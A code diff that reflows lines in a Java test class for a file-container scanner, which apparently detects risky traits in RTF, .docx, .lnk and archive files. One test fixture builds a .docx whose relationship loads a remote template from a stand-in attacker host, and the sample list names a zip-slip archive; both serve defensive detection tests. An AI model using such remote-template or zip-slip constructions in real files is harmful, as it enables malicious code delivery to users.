@@ -151,7 +151,8 @@ class ContainersTest {
                 + "000000}}}"))).containsAll(List.of("rtf.update", "office.equation")));
         assertTrue(facts(open("a.docx", zip(Map.of("[Content_Types].xml", text("<Types/>"), "word/_rels/settings.xml.rels",
                 text("<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
-                        + "</Relationships>"))))).contains("office.remote"));
+                        + "</Relationships>")))))
+                .contains("office.remote"));
         assertTrue(facts(open("x.lnk", concat(new byte[] { 'L', 0, 0, 0, 1, 0x14, 2, 0 }, new byte[100]))).contains("lnk.command"));
     }
 
@@ -167,7 +168,8 @@ class ContainersTest {
         if (folder.isEmpty()) {
             return;
         }
-        Map<String, Integer> expected = Map.of("att-rar-7z/commons-compress__bla.arj", 2, "att-cab-iso/libmspack__normal_2files_1folder.cab", 2,
+        Map<String, Integer> expected = Map.of("att-rar-7z/commons-compress__bla.arj", 2,
+                "att-cab-iso/libmspack__normal_2files_1folder.cab", 2,
                 "att-zip/zip-slip-vulnerability__zip-slip.zip", 2, "att-rar-7z/commons-compress__BZip2.7z", 1,
                 "att-cab-iso/clamav__iso_normal.logo.iso", 1);
         for (Map.Entry<String, Integer> entry : expected.entrySet()) {
